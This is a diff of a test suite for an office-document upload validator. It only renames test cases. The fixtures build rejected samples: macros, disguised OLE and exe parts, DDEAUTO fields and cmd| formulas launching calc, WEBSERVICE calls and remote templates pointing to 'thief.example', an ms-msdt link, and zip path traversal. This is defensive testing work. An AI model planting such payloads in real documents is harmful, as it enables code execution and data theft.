@@ -101,13 +101,13 @@ describe('a document field that also accepts pictures', () => {
 
 describe('the type check of an office document', () => {
   it.each<[string, keyof typeof officeTypes, () => Promise<Buffer>]>([
-    ['a text of Word', 'docx', () => officeFile('docx')],
-    ['a sheet of Excel', 'xlsx', () => officeFile('xlsx')],
-    ['a text of LibreOffice', 'odt', () => officeFile('odt')],
-    ['a sheet of LibreOffice', 'ods', () => officeFile('ods')],
-    ['a sheet that another program wrote', 'xlsx', madeByExcelJs],
+    ['a Word document', 'docx', () => officeFile('docx')],
+    ['an Excel workbook', 'xlsx', () => officeFile('xlsx')],
+    ['a LibreOffice text document', 'odt', () => officeFile('odt')],
+    ['a LibreOffice spreadsheet', 'ods', () => officeFile('ods')],
+    ['an Excel workbook written by ExcelJS', 'xlsx', madeByExcelJs],
     [
-      'a text with links to follow, and one to a bookmark',
+      'a Word document with links to a website, a bookmark and an email',
       'docx',
       () =>
         docxWith(
@@ -118,7 +118,7 @@ describe('the type check of an office document', () => {
         )
     ],
     [
-      'a text of LibreOffice with a link, a picture and a chart',
+      'a LibreOffice document with a link, an image and a chart',
       'odt',
       () =>
         odtWith('<text:a xlink:href="https://example.com"/><draw:image xlink:href="Pictures/a.png"/>', {
@@ -127,7 +127,7 @@ describe('the type check of an office document', () => {
           'ObjectReplacements/Object 1': 'VCLMTF'
         })
     ],
-    ['a text in UTF-16', 'docx', () => inUtf16(field(' PAGE '))]
+    ['a Word document in UTF-16', 'docx', () => inUtf16(field(' PAGE '))]
   ])('accepts %s and serves it as a download of its type', async (_, kind, make) => {
     const bytes = await make()
     expect(await uploadGuarantor(ada, 1, bytes)).toMatchObject({ status: 200 })
@@ -174,7 +174,7 @@ describe('the macro check of an office document', () => {
 
   it.each<[string, string, () => Promise<Buffer>]>([
     [
-      'as .docm',
+      'with the content type of a .docm',
       '.docx',
       async () =>
         withChanged(
@@ -184,7 +184,7 @@ describe('the macro check of an office document', () => {
         )
     ],
     [
-      'as .xlsm',
+      'with the content type of an .xlsm',
       '.xlsx',
       async () =>
         withChanged(
@@ -194,7 +194,7 @@ describe('the macro check of an office document', () => {
         )
     ],
     [
-      'in a file that says it has none',
+      'in the vbaProject.bin of a .docx',
       '.docx',
       async () =>
         withTyped(
@@ -205,18 +205,18 @@ describe('the macro check of an office document', () => {
         )
     ],
     [
-      'under the name of a picture',
+      'disguised as an image',
       '.docx',
       async () =>
         withTyped(await officeFile('docx'), 'word/media/a.png', 'application/vnd.ms-office.vbaProject', 'x')
     ],
     [
-      'that only a relation names',
+      'named only by a relationship',
       '.docx',
       () => docxWith('', { 'word/_rels/document.xml.rels': relation('vbaProject', 'media/a.xml', false) })
     ],
     [
-      'of the old kind',
+      'in an Excel 4.0 macro sheet',
       '.xlsx',
       async () =>
         withTyped(
@@ -226,14 +226,14 @@ describe('the macro check of an office document', () => {
           '<x/>'
         )
     ],
-    ['of LibreOffice', '.odt', () => odtWith('', { 'Basic/Standard/Module1.xml': '<x/>' })],
-    ['in Python', '.odt', () => odtWith('', { 'Scripts/python/a.py': 'print(1)' })],
+    ['in a LibreOffice Basic module', '.odt', () => odtWith('', { 'Basic/Standard/Module1.xml': '<x/>' })],
+    ['in a Python script', '.odt', () => odtWith('', { 'Scripts/python/a.py': 'print(1)' })],
     [
-      'that a press begins',
+      'started by an event listener',
       '.odt',
       () => odtWith('<script:event-listener script:language="ooo:script" xlink:href="x"/>')
     ],
-    ['that a link begins', '.odt', () => odtWith('<text:a xlink:href="vnd.sun.star.script:a.b"/>')]
+    ['started by a link', '.odt', () => odtWith('<text:a xlink:href="vnd.sun.star.script:a.b"/>')]
   ])('rejects macros %s', async (_, ending, make) => {
     await expectRefused(await make(), macroWords(ending))
   })
@@ -244,12 +244,12 @@ describe('the check of an office document for embedded content', () => {
 
   it.each<[string, () => Promise<Buffer>]>([
     [
-      'an object of another program',
+      'an OLE object',
       async () =>
         withTyped(await officeFile('docx'), 'word/embeddings/oleObject1.bin', `${office}.oleObject`, 'x')
     ],
     [
-      'another document',
+      'an embedded Word document',
       async () => withTyped(await officeFile('docx'), 'word/a.docx', officeTypes.docx, 'PK')
     ],
     [
@@ -262,10 +262,13 @@ describe('the check of an office document for embedded content', () => {
           '<x/>'
         )
     ],
-    ['a web page', async () => withTyped(await officeFile('docx'), 'word/chunk.htm', 'text/html', '<html/>')],
-    ['a program that nothing names', () => docxWith('', { 'word/media/run.exe': 'MZ' })],
     [
-      'a program under the name of a picture',
+      'an embedded HTML page',
+      async () => withTyped(await officeFile('docx'), 'word/chunk.htm', 'text/html', '<html/>')
+    ],
+    ['an .exe file that nothing refers to', () => docxWith('', { 'word/media/run.exe': 'MZ' })],
+    [
+      'an OLE file disguised as an image',
       async () =>
         withTyped(
           await officeFile('docx'),
@@ -275,7 +278,7 @@ describe('the check of an office document for embedded content', () => {
         )
     ],
     [
-      'a text under the name of a picture',
+      'an XML part named like an image',
       async () =>
         withTyped(
           await officeFile('docx'),
@@ -285,13 +288,19 @@ describe('the check of an office document for embedded content', () => {
         )
     ],
     [
-      'an object that a relation names',
+      'an OLE object named only by a relationship',
       () => docxWith('', { 'word/_rels/document.xml.rels': relation('oleObject', 'media/a.xml', false) })
     ],
-    ['an object in LibreOffice', () => odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
-    ['a file beside its parts', () => odtWith('', { 'Object 1': Buffer.from('d0cf11e0a1b11ae1', 'hex') })],
-    ['a film', () => odtWith('', { 'Media/film.mp4': 'x' })],
-    ['a program as a picture', () => odtWith('', { 'Pictures/a.png': Buffer.from('4d5a90000300', 'hex') })]
+    ['an OLE object in a LibreOffice document', () => odtWith('<draw:object-ole xlink:href="./Object 1"/>')],
+    [
+      'an OLE file outside the known parts of a LibreOffice document',
+      () => odtWith('', { 'Object 1': Buffer.from('d0cf11e0a1b11ae1', 'hex') })
+    ],
+    ['a video in a LibreOffice document', () => odtWith('', { 'Media/film.mp4': 'x' })],
+    [
+      'a program disguised as an image in a LibreOffice document',
+      () => odtWith('', { 'Pictures/a.png': Buffer.from('4d5a90000300', 'hex') })
+    ]
   ])('rejects %s', async (_, make) => {
     await expectRefused(await make(), embeddedWords)
   })
@@ -302,21 +311,24 @@ describe('the check of an office document for external references', () => {
     docxWith('', { 'word/_rels/document.xml.rels': relation(kind, target) })
 
   it.each<[string, () => Promise<Buffer>]>([
-    ['a template of the network', refers('attachedTemplate', 'https://thief.example/a.dotm')],
-    ['a linked object', refers('oleObject', 'file:///\\\\thief\\share\\a.docx')],
-    ['a picture of the web', refers('image', 'https://thief.example/a.png')],
+    ['a remote template', refers('attachedTemplate', 'https://thief.example/a.dotm')],
+    ['a linked OLE object on a network share', refers('oleObject', 'file:///\\\\thief\\share\\a.docx')],
+    ['a remote image', refers('image', 'https://thief.example/a.png')],
     ['a link that starts a program', refers('hyperlink', 'ms-msdt:/id')],
-    ['a link to a disk of the network', refers('hyperlink', '\\\\thief\\share')],
-    ['a link whose beginning is spaced', refers('hyperlink', ' fi&#10;le:///c:/a.exe')],
+    ['a link to a network share', refers('hyperlink', '\\\\thief\\share')],
     [
-      'a linked page that is not marked as one',
+      'a file: link with spaces and a line break in its scheme',
+      refers('hyperlink', ' fi&#10;le:///c:/a.exe')
+    ],
+    [
+      'an external image that is not marked as external',
       () =>
         docxWith('', {
           'word/_rels/document.xml.rels': relation('image', 'https://thief.example/a.png', false)
         })
     ],
     [
-      'relations that the list of contents calls a picture',
+      'relationships with the content type of an image',
       async () =>
         withTyped(
           await officeFile('docx'),
@@ -325,35 +337,35 @@ describe('the check of an office document for external references', () => {
           relation('image', 'https://thief.example/a.png')
         )
     ],
-    ['a field that asks a program', () => docxWith(field(' DDEAUTO c:\\\\cmd.exe "/k calc" '))],
-    ['such a field in pieces', () => docxWith(field(' DD', 'EAU', 'TO c:\\\\cmd.exe '))],
+    ['a DDEAUTO field', () => docxWith(field(' DDEAUTO c:\\\\cmd.exe "/k calc" '))],
+    ['a DDEAUTO field split into several runs', () => docxWith(field(' DD', 'EAU', 'TO c:\\\\cmd.exe '))],
     [
-      'such a field that another one writes',
+      'a DDE field completed by a nested field',
       () =>
         docxWith(
           '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 </w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>'
         )
     ],
     [
-      'such a field that does not end',
+      'a DDE field without an end',
       () => docxWith('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText>')
     ],
     [
-      'such a field of one piece',
+      'a simple INCLUDEPICTURE field',
       () => docxWith('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>')
     ],
-    ['such a field in UTF-16', () => inUtf16(field(' DDE a '))],
-    ['such a field as CDATA', () => docxWith(field('<![CDATA[ DDE a ]]>'))],
-    ['a drawing of the web', () => docxWith('<v:imagedata src="https://thief.example/a.png"/>')],
-    ['letters to many people', () => docxWith('<w:mailMerge/>')],
-    ['a formula that asks the web', () => xlsxWith('_xlfn.WEBSERVICE("https://thief.example")')],
-    ['a formula that asks a program', () => xlsxWith("cmd|'/k calc'!A0")],
+    ['a DDE field in UTF-16', () => inUtf16(field(' DDE a '))],
+    ['a DDE field in CDATA', () => docxWith(field('<![CDATA[ DDE a ]]>'))],
+    ['a VML drawing with a remote image', () => docxWith('<v:imagedata src="https://thief.example/a.png"/>')],
+    ['a mail merge', () => docxWith('<w:mailMerge/>')],
+    ['a WEBSERVICE formula', () => xlsxWith('_xlfn.WEBSERVICE("https://thief.example")')],
+    ['a DDE formula that starts a program', () => xlsxWith("cmd|'/k calc'!A0")],
     [
-      'a formula behind quotation marks',
+      'a formula with WEBSERVICE after a quoted sheet name',
       () => xlsxWith('\'a"b\'!A1&amp;WEBSERVICE("https://thief.example")')
     ],
     [
-      'another sheet',
+      'an external workbook link',
       async () =>
         withTyped(
           await officeFile('xlsx'),
@@ -363,7 +375,7 @@ describe('the check of an office document for external references', () => {
         )
     ],
     [
-      'a database',
+      'a database connection',
       async () =>
         withTyped(
           await officeFile('xlsx'),
@@ -373,18 +385,24 @@ describe('the check of an office document for external references', () => {
         )
     ],
     [
-      'a picture of the web, in LibreOffice',
+      'a remote image in LibreOffice',
       () => odtWith('<draw:image xlink:href="https://thief.example/a.png"/>')
     ],
-    ['a picture of the network', () => odtWith('<draw:image xlink:href="//thief/share/a.png"/>')],
-    ['a file beside it', () => odtWith('<draw:image xlink:href="../a.png"/>')],
-    ['a part of another text', () => odtWith('<text:section-source xlink:href="other.odt"/>')],
-    ['a program, in LibreOffice', () => odtWith('<office:dde-source office:dde-application="soffice"/>')],
-    ['a link to a disk, in LibreOffice', () => odtWith('<text:a xlink:href="file:///c:/a.exe"/>')],
     [
-      'a formula of LibreOffice that asks a program',
-      () => odtWith('<text:p text:formula="of:=DDE(&quot;a&quot;)"/>')
-    ]
+      'an image on a network share in LibreOffice',
+      () => odtWith('<draw:image xlink:href="//thief/share/a.png"/>')
+    ],
+    [
+      'a linked file next to the document in LibreOffice',
+      () => odtWith('<draw:image xlink:href="../a.png"/>')
+    ],
+    [
+      'a section of another document in LibreOffice',
+      () => odtWith('<text:section-source xlink:href="other.odt"/>')
+    ],
+    ['a DDE source in LibreOffice', () => odtWith('<office:dde-source office:dde-application="soffice"/>')],
+    ['a link to a local file in LibreOffice', () => odtWith('<text:a xlink:href="file:///c:/a.exe"/>')],
+    ['a DDE formula in LibreOffice', () => odtWith('<text:p text:formula="of:=DDE(&quot;a&quot;)"/>')]
   ])('rejects %s', async (_, make) => {
     await expectRefused(await make(), reachingWords)
   })
@@ -405,49 +423,53 @@ describe('the check of an unreadable office document', () => {
   })
 
   it.each<[string, string, () => Promise<Buffer>]>([
-    ['cut off', all, async () => (await officeFile('docx')).subarray(0, -30)],
-    ['with a name that leads elsewhere', all, async () => renamed(await officeFile('docx'), '../xxxx')],
-    ['with a name that begins at the root', all, async () => renamed(await officeFile('docx'), '/xxxxxx')],
+    ['that is truncated', all, async () => (await officeFile('docx')).subarray(0, -30)],
+    ['with an entry name that contains ../', all, async () => renamed(await officeFile('docx'), '../xxxx')],
+    ['with an absolute path as an entry name', all, async () => renamed(await officeFile('docx'), '/xxxxxx')],
     [
-      'with two parts whose names differ in capital letters',
+      'with two entry names that differ only in case',
       all,
       () => docxWith('', { 'WORD/document.xml': '<x/>' })
     ],
     [
-      'with a note that may hold another list',
+      'with an archive comment that could contain another directory',
       all,
       async () => withParts(await officeFile('docx'), {}, { comment: 'PK' })
     ],
-    ['with bytes that its list does not name', all, async () => withHidden(await officeFile('docx'))],
     [
-      'with another name in front of a part',
+      'with an entry missing from the central directory',
+      all,
+      async () => withHidden(await officeFile('docx'))
+    ],
+    [
+      'with a different entry name in a local header',
       all,
       async () => renamed(await officeFile('docx'), 'x.xml', true)
     ],
     [
-      'of two kinds at once',
+      'that is both a Word and a LibreOffice document',
       all,
       async () => withParts(await officeFile('docx'), { mimetype: officeTypes.odt })
     ],
     [
-      'with words that stand for others',
+      'with an XML entity declaration',
       '.docx',
       () => docxWith('', { 'word/a.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' })
     ],
-    ['of XML that is none', '.docx', () => docxWith('', { 'word/a.xml': '<x>' })],
+    ['with malformed XML', '.docx', () => docxWith('', { 'word/a.xml': '<x>' })],
     [
-      'of letters that are none',
+      'with invalid UTF-8',
       '.docx',
       () => docxWith('', { 'word/a.xml': Buffer.from('<x>\u00ff\u00fe</x>', 'latin1') })
     ],
     [
-      'in letters that hide what they say',
+      'with XML in UTF-7',
       '.docx',
       () => docxWith('', { 'word/a.xml': '<?xml version="1.0" encoding="utf-7"?><x/>' })
     ],
-    ['of boxes in boxes', '.docx', () => docxWith('', { 'word/a.xml': '<a>'.repeat(5000) })],
+    ['with 5,000 nested XML elements', '.docx', () => docxWith('', { 'word/a.xml': '<a>'.repeat(5000) })],
     [
-      'of settings without end',
+      'with 5,000 attributes of one XML element',
       '.docx',
       () =>
         docxWith('', {
@@ -455,7 +477,7 @@ describe('the check of an unreadable office document', () => {
         })
     ],
     [
-      'without a list of contents',
+      'with a malformed manifest',
       '.odt',
       async () => withChanged(await officeFile('odt'), 'META-INF/manifest.xml', () => '<x')
     ]
